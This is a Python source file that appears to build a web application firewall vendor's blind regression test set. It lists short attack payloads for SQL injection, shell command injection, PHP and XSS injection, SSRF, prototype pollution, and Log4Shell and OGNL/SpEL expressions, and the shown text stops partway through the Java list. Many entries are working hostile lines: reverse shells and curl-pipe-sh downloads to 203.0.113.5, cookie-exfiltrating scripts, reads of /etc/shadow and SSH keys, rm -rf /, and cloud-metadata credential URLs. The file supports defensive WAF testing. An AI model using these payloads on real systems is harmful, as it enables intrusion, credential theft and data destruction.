"""Blind set "twentyfirst": a WAF vendor's atomic QA suite, every attack family in every request part.

Written the way a WAF vendor's QA engineer writes a regression suite: for each attack technique one short, atomic
payload that isolates it (the smallest string that still is the attack), plus for many techniques a second,
slightly evasive spelling of the same technique (case, comments, encoding, whitespace). The point of the set is
also WHERE the payload sits: each payload is rotated through two or three request parts (query value or
parameter name, form value or field name, JSON value or key, cookie value or name, User-Agent, Referer, a
percent-encoded path segment, XML element text, a raw text/plain body, a multipart field value); `placement`
names the part, `sub` the technique. The benign half carries ordinary values real clients send in the same
parts, plus developers' code pasted into Slack messages and profile bios (ids with "-devcode-").

Authorship and independence: written by a helper session from general knowledge of each technique and of real
client traffic only. No WAF rule of this project, no CRS rule file or regression test, no other generator's
payload or text list and no public payload list was read or searched while writing it; the placement helpers
are this file's own (only family_gen's request builders and family_gen_blind_php's Slack/bio helper are reused).
The set was measured once on its finished form and not tuned afterwards. Deterministic: no randomness, no clock.
"""

from __future__ import annotations

import re
import urllib.parse
from collections.abc import Iterator
from typing import Any
from xml.sax.saxutils import escape as _xml_text

from .family_gen import UA, _form, _get, _json, _query
from .family_gen_blind_php import chat_and_bio

SET = "twentyfirst"

# (sub = technique, atomic payload, evasive spelling of the same technique or "" when there is none)
Technique = tuple[str, str, str]

SQLI: list[Technique] = [
    ("tautology_or", "' OR 1=1-- -", "'/**/oR/**/1=1#"),
    ("tautology_string", "' OR 'a'='a", "'\tor\t'x'\t=\t'x"),
    ("tautology_numeric", "1 OR 1=1", "1||1=1"),
    ("tautology_double_quote", "\" OR \"\"=\"", "\"or\"1\"=\"1"),
    ("tautology_paren", "') OR ('1'='1", "')) oR (('a'='a"),
    ("tautology_true", "' OR true-- ", "'||true#"),
    ("tautology_not_equal", "' OR 1<>2-- ", "' or 2 != 3 -- "),
    ("tautology_between", "' OR 2 BETWEEN 1 AND 3-- ", ""),
    ("tautology_like", "' OR 'admin' LIKE 'adm%", ""),
    ("url_encoded_tautology", "%27%20OR%20%271%27%3D%271", ""),
    ("fullwidth_quote", "\uff07 OR 1=1-- ", ""),
    ("backslash_quote", "\\' OR 1=1-- ", ""),
    ("comment_bypass", "admin'-- ", "admin'/*"),
    ("comment_hash", "admin'#", ""),
    ("union_select_null", "' UNION SELECT NULL,NULL-- ", "' uNiOn/**/sElEcT/**/nUlL,nUlL-- "),
    ("union_all_columns", "-1 UNION ALL SELECT username,password FROM users",
     "-1 /*!50000UNION*/ /*!50000ALL*/ /*!50000SELECT*/ username,password FROM users"),
    ("union_version", "' UNION SELECT @@version-- ", "'%20union%20select%20@@version--%20"),
    ("union_numeric", "-1 UNION SELECT 1,2,3", "-1e0union select 1,2,3"),
    ("union_info_schema_tables", "' UNION SELECT table_name FROM information_schema.tables-- ",
     "'union(select(table_name)from(information_schema.tables))#"),
    ("union_info_schema_columns", "1 UNION SELECT group_concat(column_name) FROM information_schema.columns", ""),
    ("union_sqlite_master", "' UNION SELECT sql FROM sqlite_master-- ", ""),
    ("union_pg_tables", "' UNION SELECT tablename FROM pg_tables-- ", ""),
    ("union_mssql_sysobjects", "' UNION SELECT name FROM sysobjects WHERE xtype='U'-- ", ""),
    ("union_oracle_version", "' UNION SELECT banner FROM v$version-- ", ""),
    ("oracle_dual", "' UNION SELECT NULL FROM dual-- ", ""),
    ("union_current_user", "' UNION SELECT current_user,NULL-- ", ""),
    ("union_mysql_user", "' UNION SELECT user,authentication_string FROM mysql.user-- ", ""),
    ("union_load_file", "' UNION SELECT LOAD_FILE('/etc/passwd')-- ",
     "' union select load_file(0x2f6574632f706173737764)-- "),
    ("into_outfile", "' UNION SELECT 1 INTO OUTFILE '/tmp/out.txt'-- ", "' union select 1 into/**/dumpfile '/tmp/x'#"),
    ("stacked_drop", "1; DROP TABLE users-- ", "1;/**/dRoP/**/tAbLe/**/users"),
    ("stacked_update", "'; UPDATE users SET role='admin' WHERE id=1-- ", ""),
    ("stacked_insert", "'; INSERT INTO users(name,role) VALUES('x','admin')-- ", ""),
    ("stacked_delete", "1; DELETE FROM sessions", ""),
    ("stacked_xp_cmdshell", "'; EXEC xp_cmdshell 'whoami'-- ", "';exec master..xp_cmdshell 'dir'--"),
    ("stacked_declare_exec", "';DECLARE @q varchar(99);SET @q='SELECT 1';EXEC(@q)-- ", ""),
    ("stacked_shutdown", "'; SHUTDOWN-- ", ""),
    ("stacked_copy_program", "'; COPY t FROM PROGRAM 'id'-- ", ""),
    ("stacked_create_user", "'; CREATE USER x IDENTIFIED BY 'p'-- ", ""),
    ("stacked_openrowset", "'; SELECT * FROM OPENROWSET('SQLOLEDB','x';'sa';'p','SELECT 1')-- ", ""),
    ("stacked_sqlite_attach", "'; ATTACH DATABASE '/tmp/x.db' AS x-- ", ""),
    ("time_sleep", "' AND SLEEP(5)-- ", "'-sleep(5)-'"),
    ("time_benchmark", "1 AND BENCHMARK(5000000,MD5(1))", "1 and benchmark(5e6,sha1(1))"),
    ("time_pg_sleep", "'; SELECT pg_sleep(5)-- ", "1||pg_sleep(5)"),
    ("time_waitfor", "'; WAITFOR DELAY '0:0:5'-- ", "1;waitfor delay '00:00:05'"),
    ("time_if_sleep", "' AND IF(1=1,SLEEP(3),0)-- ", ""),
    ("time_dbms_pipe", "' AND 1=DBMS_PIPE.RECEIVE_MESSAGE('a',5)-- ", ""),
    ("time_randomblob", "' AND 1=LIKE('ABC',UPPER(HEX(RANDOMBLOB(100000000))))-- ", ""),
    ("error_extractvalue", "' AND extractvalue(1,concat(0x7e,version()))-- ",
     "' and ExtractValue(1,CONCAT(0x7e,(select user())))#"),
    ("error_updatexml", "' AND updatexml(1,concat(0x7e,user()),1)-- ", ""),
    ("error_convert", "' AND 1=CONVERT(int,@@version)-- ", ""),
    ("error_cast", "' AND 1=CAST(version() AS int)-- ", "' and 1=cast((select current_user) as int)--"),
    ("error_floor_rand", "' AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x "
     "FROM information_schema.tables GROUP BY x)a)-- ", ""),
    ("error_db_name", "' AND db_name()>0-- ", ""),
    ("boolean_substring", "' AND SUBSTRING(@@version,1,1)='8", "' and ascii(substr(user(),1,1))>64-- "),
    ("boolean_length", "' AND LENGTH(database())>3-- ", ""),
    ("boolean_and_false", "1 AND 1=2", "1 aNd 1=0"),
    ("boolean_exists", "' AND EXISTS(SELECT * FROM users)-- ", ""),
    ("subquery_count", "1 AND (SELECT COUNT(*) FROM users)>0", ""),
    ("order_by_probe", "1 ORDER BY 10-- ", "1' order by 3#"),
    ("order_by_case", "(CASE WHEN (1=1) THEN id ELSE name END)", ""),
    ("having_probe", "' HAVING 1=1-- ", "' GROUP BY id HAVING 1=1-- "),
    ("case_when", "' AND (CASE WHEN 1=1 THEN 1 ELSE 0 END)=1-- ", ""),
    ("hex_literal", "' OR username=0x61646d696e-- ", ""),
    ("char_function", "' OR username=CHAR(97,100,109,105,110)-- ", ""),
    ("concat_pipes", "' || (SELECT password FROM users LIMIT 1) || '", ""),
    ("regexp_probe", "' OR user() REGEXP '^root", ""),
    ("dbms_fingerprint", "' AND @@version LIKE '8%", ""),
    ("oob_dns_load_file", r"' AND LOAD_FILE(CONCAT('\\\\',version(),'.oob.example.net\\a'))-- ", ""),
    ("procedure_analyse", "1 PROCEDURE ANALYSE()", ""),
    ("nosql_operator_param", "password[$ne]", "username[$regex]"),
    ("nosql_operator_json", "{\"$ne\": null}", ""),
    ("nosql_where", "{\"$where\": \"sleep(5000)\"}", ""),
]

RCE: list[Technique] = [
    ("semicolon", ";id", "; i''d"),
    ("pipe", "| id", "|i\\d"),
    ("double_pipe", "|| whoami", "||w'h'o'a'm'i"),
    ("double_ampersand", "&& cat /etc/passwd", "&&c''at /e?c/p?sswd"),
    ("ampersand", "& ping -c 1 127.0.0.1 &", ""),
    ("newline", "\nid", "%0aid"),
    ("backticks", "`id`", "`wh''oami`"),
    ("dollar_paren", "$(whoami)", "$(w\\ho\\am\\i)"),
    ("ifs_space", ";cat${IFS}/etc/passwd", ";cat$IFS$9/etc/passwd"),
    ("brace_expansion", ";{cat,/etc/passwd}", ""),
    ("glob_path", ";/???/??t /???/p??s??", ""),
    ("path_substring", ";${PATH:0:1}bin${PATH:0:1}id", ""),
    ("quote_split", ";\"w\"h\"o\"a\"m\"i", ""),
    ("empty_var_split", ";who$@ami", ""),
    ("var_concat", ";a=wh;b=oami;$a$b", ""),
    ("printf_hex", ";$(printf '\\x69\\x64')", ""),
    ("rev_pipe", ";echo di|rev|sh", ""),
    ("curl_pipe_sh", ";curl http://203.0.113.5/x.sh|sh", ";curl -s 203.0.113.5/x|bash"),
    ("wget_download", ";wget http://203.0.113.5/m -O /tmp/m", ""),
    ("nc_reverse", ";nc -e /bin/sh 203.0.113.5 4444", "|ncat 203.0.113.5 4444 -e /bin/bash"),
    ("bash_dev_tcp", ";bash -i >& /dev/tcp/203.0.113.5/4444 0>&1", ""),
    ("mkfifo_reverse", ";rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 203.0.113.5 4444 >/tmp/f", ""),
    ("socat_reverse", ";socat exec:sh tcp:203.0.113.5:4444", ""),
    ("python_cli", ";python3 -c 'import os;os.system(\"id\")'", ""),
    ("perl_cli", ";perl -e 'exec \"/bin/sh\"'", ""),
    ("php_cli", ";php -r 'system(\"id\");'", ""),
    ("ruby_cli", ";ruby -e 'exec \"id\"'", ""),
    ("node_cli", ";node -e 'require(\"child_process\").execSync(\"id\")'", ""),
    ("awk_system", ";awk 'BEGIN{system(\"id\")}'", ""),
    ("base64_pipe", ";echo aWQ=|base64 -d|sh", ""),
    ("uname", ";uname -a", ";un\\ame -a"),
    ("sleep", ";sleep 5", "|sleep${IFS}5"),
    ("ping_loopback", ";ping -c 3 127.0.0.1", ""),
    ("nslookup_oob", ";nslookup x.oob.example.net", "$(nslookup `whoami`.oob.example.net)"),
    ("rm_rf", ";rm -rf /", ""),
    ("chmod_777", ";chmod 777 /tmp/x", ""),
    ("cat_shadow", ";cat /etc/shadow", ""),
    ("head_passwd", "|head -n1 /etc/passwd", ""),
    ("cat_ssh_key", ";cat ~/.ssh/id_rsa", ""),
    ("env_dump", ";env", ";printenv"),
    ("ls_root", ";ls -la /", ";ls${IFS}-la${IFS}/"),
    ("find_suid", ";find / -perm -4000", ""),
    ("sudo_list", ";sudo -l", ""),
    ("useradd_root", ";useradd -o -u 0 x", ""),
    ("kill_init", ";kill -9 1", ""),
    ("crontab_persist", ";(crontab -l;echo '* * * * * id')|crontab -", ""),
    ("redirect_write", ";echo pwned>/tmp/p", ""),
    ("tee_write", "| tee /var/www/html/x.txt", ""),
    ("process_substitution", "<(id)", ""),
    ("nohup_background", ";nohup sh x.sh &", ""),
    ("bin_sh_c", "/bin/sh -c id", "/b??/s? -c id"),
    ("shellshock", "() { :; }; /bin/bash -c id", "() { :;}; echo; /usr/bin/id"),
    ("tar_checkpoint", "--checkpoint-action=exec=sh x.sh", ""),
    ("ssh_proxycommand", "-oProxyCommand=id", ""),
    ("git_upload_pack", "--upload-pack=touch /tmp/x", ""),
    ("win_dir", "& dir c:\\", ""),
    ("win_type", "| type C:\\Windows\\win.ini", ""),
    ("win_net_user", "& net user", ""),
    ("win_whoami", "& whoami /all", "& w^h^o^a^m^i"),
    ("win_cmd_c", "& cmd /c ver", "| CMD.EXE /C ver"),
    ("win_comspec", "& %COMSPEC% /c dir", ""),
    ("win_powershell_enc", "& powershell -enc SQBFAFgA", ""),
    ("win_powershell_iex", ";powershell IEX(New-Object Net.WebClient).DownloadString('http://203.0.113.5/a')", ""),
    ("win_certutil", "& certutil -urlcache -f http://203.0.113.5/x.exe x.exe", ""),
]

PHP: list[Technique] = [
    ("open_tag", "<?php phpinfo(); ?>", "<?PhP\tpHpInFo();"),
    ("open_tag_file_read", "<?php echo file_get_contents('/etc/passwd'); ?>", ""),
    ("short_echo_tag", "<?= system('id') ?>", "<?=`id`?>"),
    ("short_open_tag", "<? system('id'); ?>", ""),
    ("script_language_php", "<script language=\"php\">system('id');</script>", ""),
    ("system", "system('id');", "sYsTeM ( 'id' ) ;"),
    ("exec", "exec('whoami');", ""),
    ("shell_exec", "shell_exec('ls -la');", "shell_exec/**/('ls');"),
    ("passthru", "passthru('id');", ""),
    ("popen", "popen('id','r');", ""),
    ("proc_open", "proc_open('id',array(),$pipes);", ""),
    ("pcntl_exec", "pcntl_exec('/bin/sh');", ""),
    ("backtick_operator", "echo `id`;", ""),
    ("superglobal_cmd", "system($_GET['cmd']);", "system($_REQUEST[cmd]);"),
    ("eval_post", "eval($_POST['c']);", "eval (  $_REQUEST [ 'c' ] ) ;"),
    ("assert", "assert('phpinfo()');", ""),
    ("create_function", "create_function('','system(\"id\");');", ""),
    ("preg_replace_e", "preg_replace('/.*/e','system(\"id\")','x');", ""),
    ("eval_base64", "eval(base64_decode('cGhwaW5mbygpOw=='));", "EvAl(BaSe64_DeCoDe($_COOKIE['x']));"),
    ("eval_gzinflate", "eval(gzinflate(base64_decode('S0ktLlFIzs8rSc0rUchMAQA=')));", ""),
    ("eval_str_rot13", "eval(str_rot13('flfgrz(\"vq\");'));", ""),
    ("call_user_func", "call_user_func('system','id');", ""),
    ("call_user_func_array", "call_user_func_array('system',array('id'));", ""),
    ("array_map_callback", "array_map('system',array('id'));", ""),
    ("array_filter_callback", "array_filter(array('id'),'system');", ""),
    ("variable_function", "$f='system';$f('id');", ""),
    ("superglobal_call", "$_GET['f']($_GET['c']);", ""),
    ("concat_function_name", "('sys'.'tem')('id');", ""),
    ("hex_escape_function", "\"\\x73\\x79\\x73\\x74\\x65\\x6d\"('id');", ""),
    ("chr_concat", "$f=chr(115).chr(121).chr(115).chr(116).chr(101).chr(109);$f('id');", ""),
    ("globals_access", "$GLOBALS['_GET']['c']", ""),
    ("server_superglobal", "echo $_SERVER['DOCUMENT_ROOT'];", ""),
    ("file_put_contents_shell", "file_put_contents('s.php','<?php system($_GET[1]);');", ""),
    ("fopen_fwrite", "fwrite(fopen('x.php','w'),'x');", ""),
    ("include_path", "include('/etc/passwd');", "InClUdE '/etc/passwd';"),
    ("include_var", "include $_GET['p'];", ""),
    ("require_once_remote", "require_once 'http://203.0.113.5/s.txt';", ""),
    ("phpinfo", "phpinfo();", "phpinfo/**/();"),
    ("ini_set", "ini_set('allow_url_include','1');", ""),
    ("unserialize_object", "O:8:\"stdClass\":1:{s:1:\"a\";s:2:\"id\";}", "O:+8:\"stdClass\":0:{}"),
    ("serialized_array_object", "a:1:{i:0;O:4:\"Evil\":0:{}}", ""),
    ("serialized_custom", "C:11:\"ArrayObject\":21:{x:i:0;a:0:{};m:a:0:{}}", ""),
    ("session_serialized", "|O:4:\"Evil\":0:{}", ""),
    ("phar_wrapper", "phar://uploads/avatar.jpg/x", "PHAR://uploads/avatar.jpg"),
    ("php_filter", "php://filter/convert.base64-encode/resource=index.php",
     "PHP://FiLtEr/read=string.rot13/resource=index.php"),
    ("php_input", "php://input", "pHp://InPuT"),
    ("php_fd", "php://fd/3", ""),
    ("data_wrapper", "data://text/plain;base64,PD9waHAgcGhwaW5mbygpOz8+", "data:text/plain,<?php phpinfo();?>"),
    ("expect_wrapper", "expect://id", ""),
    ("zip_wrapper", "zip://uploads/a.zip#shell.php", ""),
    ("glob_wrapper", "glob:///var/www/*", ""),
    ("compress_zlib_wrapper", "compress.zlib://uploads/x.gz", ""),
    ("putenv_ld_preload", "putenv('LD_PRELOAD=/tmp/x.so');", ""),
    ("mail_param", "mail('a@example.org','s','m','','-X/var/www/x.php');", ""),
    ("highlight_file", "highlight_file('/etc/passwd');", ""),
    ("show_source", "show_source('index.php');", ""),
    ("readfile", "readfile('/etc/passwd');", ""),
    ("file_get_contents", "file_get_contents('/etc/passwd');", "file_get_contents ( \"/etc/passwd\" ) ;"),
    ("scandir", "print_r(scandir('/'));", ""),
    ("extract", "extract($_GET);", ""),
    ("parse_str", "parse_str($_SERVER['QUERY_STRING']);", ""),
    ("reflection_function", "(new ReflectionFunction('system'))->invoke('id');", ""),
    ("dl", "dl('evil.so');", ""),
    ("ob_start_callback", "ob_start('system');echo 'id';", ""),
    ("register_shutdown", "register_shutdown_function('system','id');", ""),
    ("halt_compiler", "__halt_compiler();", ""),
    ("move_uploaded_file", "move_uploaded_file($_FILES['f']['tmp_name'],'x.php');", ""),
    ("print_env", "print_r($_ENV);", ""),
    ("ini_get_disabled", "echo ini_get('disable_functions');", ""),
    ("symlink", "symlink('/etc/passwd','x.txt');", ""),
    ("posix_uid", "posix_getpwuid(posix_geteuid());", ""),
    ("get_defined_vars", "var_dump(get_defined_vars());", ""),
    ("base64_cookie", "base64_decode($_COOKIE['x'])", ""),
    ("php_uname", "echo php_uname();", ""),
]

XSS: list[Technique] = [
    ("script_tag", "<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>"),
    ("script_src", "<script src=//203.0.113.5/x.js></script>", "<script/src=data:,alert(1)></script>"),
    ("img_onerror", "<img src=x onerror=alert(1)>", "<IMG/SRC=x\noNeRrOr=alert(1)>"),
    ("svg_onload", "<svg onload=alert(1)>", "<svg/onload=alert(1)//"),
    ("body_onload", "<body onload=alert(1)>", ""),
    ("iframe_javascript", "<iframe src=\"javascript:alert(1)\">", ""),
    ("iframe_srcdoc", "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\">", ""),
    ("a_href_javascript", "<a href=\"javascript:alert(1)\">x</a>", "<a href=\"jav&#x09;ascript:alert(1)\">x</a>"),
    ("javascript_uri", "javascript:alert(document.cookie)", "JaVaScRiPt:alert(1)"),
    ("data_uri_html", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
     "data:text/html,<script>alert(1)</script>"),
    ("vbscript_uri", "vbscript:msgbox(1)", ""),
    ("input_autofocus", "<input autofocus onfocus=alert(1)>", ""),
    ("select_autofocus", "<select autofocus onfocus=alert(1)>", ""),
    ("details_ontoggle", "<details open ontoggle=alert(1)>", ""),
    ("marquee_onstart", "<marquee onstart=alert(1)>", ""),
    ("video_source_onerror", "<video><source onerror=alert(1)></video>", ""),
    ("audio_onerror", "<audio src=x onerror=alert(1)>", ""),
    ("pointer_event", "<div onpointerover=alert(1)>x</div>", ""),
    ("animation_event", "<style>@keyframes x{}</style><p style=\"animation-name:x\" onanimationstart=alert(1)>", ""),
    ("object_data", "<object data=\"javascript:alert(1)\">", ""),
    ("embed_src", "<embed src=\"data:text/html,<script>alert(1)</script>\">", ""),
    ("img_src_javascript", "<img src=\"javascript:alert(1)\">", ""),
    ("table_background", "<table background=\"javascript:alert(1)\">", ""),
    ("form_action", "<form action=\"javascript:alert(1)\"><button>x</button></form>", ""),
    ("button_formaction", "<button formaction=javascript:alert(1)>x</button>", ""),
    ("math_xlink", "<math><a xlink:href=\"javascript:alert(1)\">x</a></math>", ""),
    ("css_expression", "<div style=\"width:expression(alert(1))\">", ""),
    ("style_import", "<style>@import 'http://203.0.113.5/x.css';</style>", ""),
    ("meta_refresh", "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">", ""),
    ("base_href", "<base href=\"//203.0.113.5/\">", ""),
    ("attr_breakout_script", "\"><script>alert(1)</script>", "'><svg onload=alert(1)>"),
    ("attr_event_injection", "\" onmouseover=\"alert(1)", "' autofocus onfocus='alert(1)"),
    ("js_string_breakout", "';alert(1);//", "\\';alert(1)//"),
    ("textarea_breakout", "</textarea><script>alert(1)</script>", ""),
    ("title_breakout", "</title><svg onload=alert(1)>", ""),
    ("comment_breakout", "--><script>alert(1)</script>", ""),
    ("cookie_exfil_image", "<script>new Image().src='//203.0.113.5/?c='+document.cookie</script>", ""),
    ("fetch_exfil", "<script>fetch('//203.0.113.5/'+document.cookie)</script>", ""),
    ("document_write", "<script>document.write('<img src=//203.0.113.5/'+document.cookie+'>')</script>", ""),
    ("location_redirect", "<script>location='//203.0.113.5'</script>", ""),
    ("eval_atob", "<script>eval(atob('YWxlcnQoMSk='))</script>", ""),
    ("fromcharcode", "<script>alert(String.fromCharCode(88,83,83))</script>", ""),
    ("settimeout_string", "<img src=x onerror=setTimeout('alert(1)')>", ""),
    ("template_literal_call", "<script>alert`1`</script>", ""),
    ("js_unicode_escape", "<script>\\u0061lert(1)</script>", ""),
    ("svg_script_entities", "<svg><script>alert&#40;1&#41;</script>", ""),
    ("svg_animate", "<svg><animate onbegin=alert(1) attributeName=x>", ""),
    ("xhtml_namespace_script", "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script>", ""),
    ("entity_encoded_script", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;"),
    ("url_encoded_script", "%3Cscript%3Ealert(1)%3C%2Fscript%3E", ""),
    ("utf7_script", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", ""),
    ("angular_csti", "{{constructor.constructor('alert(1)')()}}", ""),
    ("iframe_onload", "<iframe onload=alert(1)>", "<iframe/onload=alert(1)>"),
    ("noscript_breakout", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", ""),
    ("popover_beforetoggle", "<button popovertarget=x>x</button><div popover id=x onbeforetoggle=alert(1)>", ""),
    ("module_import", "<script type=module>import('//203.0.113.5/x.js')</script>", ""),
]

GENERIC: list[Technique] = [
    # Node.js code injection
    ("node_child_process", "require('child_process').exec('id')",
     "require ( \"child_process\" ) . execSync ( \"id\" )"),
    ("node_main_module", "process.mainModule.require('child_process').execSync('id')", ""),
    ("node_spawn", "require('child_process').spawn('sh',['-c','id'])", ""),
    ("node_fs_read", "require('fs').readFileSync('/etc/passwd','utf8')", ""),
    ("node_function_constructor", "this.constructor.constructor('return process')()", ""),
    ("node_vm", "require('vm').runInNewContext('this.constructor.constructor(\"return process\")()')", ""),
    ("node_env_dump", "res.end(JSON.stringify(process.env))", ""),
    ("node_serialize_iife", "_$$ND_FUNC$$_function(){require('child_process').exec('id')}()", ""),
    ("node_process_binding", "process.binding('spawn_sync')", ""),
    ("node_dynamic_import", "import('child_process').then(m=>m.execSync('id'))", ""),
    ("node_global_process", "global.process.exit(1)", ""),
    ("node_eval_buffer", "eval(Buffer.from('cHJvY2Vzcy5leGl0KCk=','base64').toString())", ""),
    # prototype pollution
    ("proto_bracket", "__proto__[isAdmin]", "__proto__.isAdmin"),
    ("proto_constructor", "constructor[prototype][isAdmin]", "constructor.prototype.isAdmin"),
    ("proto_gadget_env", "__proto__[NODE_OPTIONS]", ""),
    ("proto_json", "{\"__proto__\":{\"isAdmin\":true}}", "{\"constructor\":{\"prototype\":{\"isAdmin\":true}}}"),
    ("proto_unicode_key", "{\"__pr\\u006fto__\":{\"isAdmin\":true}}", ""),
    # SSRF
    ("ssrf_aws_metadata", "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
     "http://[::ffff:a9fe:a9fe]/latest/meta-data/"),
    ("ssrf_gcp_metadata", "http://metadata.google.internal/computeMetadata/v1/", ""),
    ("ssrf_azure_metadata", "http://169.254.169.254/metadata/instance?api-version=2021-02-01", ""),
    ("ssrf_alibaba_metadata", "http://100.100.100.200/latest/meta-data/", ""),
    ("ssrf_ecs_metadata", "http://169.254.170.2/v2/credentials", ""),
    ("ssrf_loopback", "http://127.0.0.1:22/", "http://127.1:22/"),
    ("ssrf_localhost_service", "http://localhost:6379/", "http://LocalHost:6379/"),
    ("ssrf_gopher", "gopher://127.0.0.1:6379/_INFO", ""),
    ("ssrf_file_scheme", "file:///etc/passwd", ""),
    ("ssrf_dict", "dict://127.0.0.1:11211/stats", ""),
    ("ssrf_ldap", "ldap://127.0.0.1:389/", ""),
    ("ssrf_tftp", "tftp://203.0.113.5/x", ""),
    ("ssrf_decimal_ip", "http://2130706433/", ""),
    ("ssrf_hex_ip", "http://0x7f000001/", ""),
    ("ssrf_octal_ip", "http://0177.0.0.1/", ""),
    ("ssrf_ipv6_loopback", "http://[::1]:8080/", ""),
    ("ssrf_zero_ip", "http://0.0.0.0:8080/", ""),
    ("ssrf_userinfo", "http://example.com@127.0.0.1/", ""),
    ("ssrf_dns_rebind", "http://169.254.169.254.nip.io/", ""),
    ("ssrf_internal_admin", "http://10.0.0.1/admin", ""),
    ("ssrf_k8s_api", "https://kubernetes.default.svc/api/v1/namespaces/default/secrets", ""),
    ("ssrf_server_status", "http://localhost/server-status", ""),
    ("ssrf_docker_socket", "http://127.0.0.1:2375/containers/json", ""),
    # Ruby
    ("ruby_kernel_exec", "Kernel.exec('id')", ""),
    ("ruby_io_popen", "IO.popen('id').read", ""),
    ("ruby_percent_x", "%x(id)", ""),
    ("ruby_open_pipe", "open('|id')", ""),
    ("ruby_const_get", "Object.const_get('Kernel').system('id')", ""),
    ("ruby_instance_eval", "instance_eval('system(\"id\")')", ""),
    ("ruby_send", "send(:system,'id')", ""),
    ("ruby_open3", "Open3.capture2('id')", ""),
    ("ruby_marshal", "Marshal.load(Base64.decode64(params[:d]))", ""),
    ("ruby_yaml_object", "--- !ruby/object:Gem::Requirement\nrequirements: []", ""),
    # Python
    ("python_import_os", "__import__('os').system('id')", "__import__ ( \"os\" ) . popen ( \"id\" ) . read ( )"),
    ("python_exec", "exec(\"import os;os.system('id')\")", ""),
    ("python_subprocess", "subprocess.check_output(['id'])", ""),
    ("python_getattr", "getattr(__import__('os'),'system')('id')", ""),
    ("python_subclasses", "().__class__.__bases__[0].__subclasses__()", ""),
    ("python_builtins", "__builtins__.__dict__['eval']('1')", ""),
    ("python_eval_compile", "eval(compile('import os','x','exec'))", ""),
    ("python_open_read", "open('/etc/passwd').read()", ""),
    ("python_pickle", "cos\nsystem\n(S'id'\ntR.", ""),
    ("python_yaml_apply", "!!python/object/apply:os.system ['id']", ""),
    # Perl
    ("perl_open_pipe", "open(F,\"|id\")", ""),
    ("perl_exec", "exec \"/bin/sh\"", ""),
    ("perl_qx", "qx{id}", ""),
    ("perl_eval", "eval \"system('id')\"", ""),
    ("perl_interpolate", "@{[system 'id']}", ""),
    ("perl_socket", "use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname('tcp'))", ""),
]

JAVA: list[Technique] = [
    ("jndi_ldap", "${jndi:ldap://203.0.113.5:1389/a}", "${${lower:j}ndi:${lower:l}dap://203.0.113.5/a}"),
    ("jndi_default_value", "${${::-j}${::-n}${::-d}${::-i}:ldap://203.0.113.5/a}", ""),
    ("jndi_rmi", "${jndi:rmi://203.0.113.5:1099/o}", "${jndi:${upper:r}mi://203.0.113.5/o}"),
    ("jndi_dns", "${jndi:dns://203.0.113.5/a}", ""),
    ("jndi_ldaps", "${jndi:ldaps://203.0.113.5/a}", ""),
    ("jndi_iiop", "${jndi:iiop://203.0.113.5/a}", ""),
    ("jndi_nested_env", "${jndi:ldap://${env:USER}.oob.example.net/a}", ""),
    ("jndi_date_lookup", "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://203.0.113.5/a}", ""),
    ("jndi_url_encoded", "%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.5%2Fa%7D", ""),
    ("log4j_env_lookup", "${env:AWS_SECRET_ACCESS_KEY}", ""),
    ("log4j_sys_lookup", "${sys:java.version}", ""),
    ("log4j_java_lookup", "${java:runtime}", ""),
    ("ognl_runtime", "%{@java.lang.Runtime@getRuntime().exec('id')}",
     "%{(@java.lang.Runtime@getRuntime()).exec(\"id\")}"),
    ("ognl_member_access", "%{(#_memberAccess['allowStaticMethodAccess']=true)}",
     "#{#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS}"),
    ("ognl_context_deny", "%{#context['xwork.MethodAccessor.denyMethodExecution']=false}", ""),
    ("ognl_processbuilder", "(#p=new java.lang.ProcessBuilder('id')).(#p.start())", ""),
    ("ognl_redirect", "redirect:${#a=new java.lang.ProcessBuilder('id').start()}", ""),
    ("ognl_ioutils", "${@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec('id')"
     ".getInputStream())}", ""),
    ("ognl_content_type", "%{(#nike='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}", ""),
    ("spel_runtime", "${T(java.lang.Runtime).getRuntime().exec('id')}",
     "#{T (java.lang.Runtime) . getRuntime() . exec('id')}"),
    ("spel_processbuilder", "#{new java.lang.ProcessBuilder({'id'}).start()}", ""),
    ("spel_getenv", "${T(java.lang.System).getenv()}", ""),
    ("spel_routing_expression", "T(java.lang.Runtime).getRuntime().exec('id')", ""),
    ("spring4shell_param", "class.module.classLoader.resources.context.parent.pipeline.first.pattern",
     "class.module.classLoader.URLs[0]"),
    ("el_pagecontext", "${pageContext.request.getSession()}", ""),
    ("el_applicationscope", "${applicationScope}", ""),
    ("el_getclass_forname", "${\"\".getClass().forName(\"java.lang.Runtime\")}", ""),
    ("reflection_runtime", "java.lang.Runtime.getRuntime().exec(\"id\")", "Runtime . getRuntime ( ) . exec ( \"id\" )"),
    ("reflection_class_forname", "Class.forName(\"java.lang.Runtime\")", ""),
    ("reflection_processbuilder", "new java.lang.ProcessBuilder(\"id\").start()", ""),
    ("reflection_classloader", "getClass().getClassLoader()", ""),
    ("reflection_method_invoke", "getMethod(\"exec\",String.class).invoke(null,\"id\")", ""),
    ("urlclassloader", "new java.net.URLClassLoader(new java.net.URL[]{new java.net.URL(\"http://203.0.113.5/\")})",
     ""),
    ("script_engine", "new javax.script.ScriptEngineManager().getEngineByName(\"js\").eval(\"1\")", ""),
    ("jndi_initial_context", "new javax.naming.InitialContext().lookup(\"ldap://203.0.113.5/a\")", ""),
    ("deser_base64_magic", "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==", ""),
    ("deser_hex_magic", "aced0005737200116a6176612e7574696c2e486173684d6170", ""),
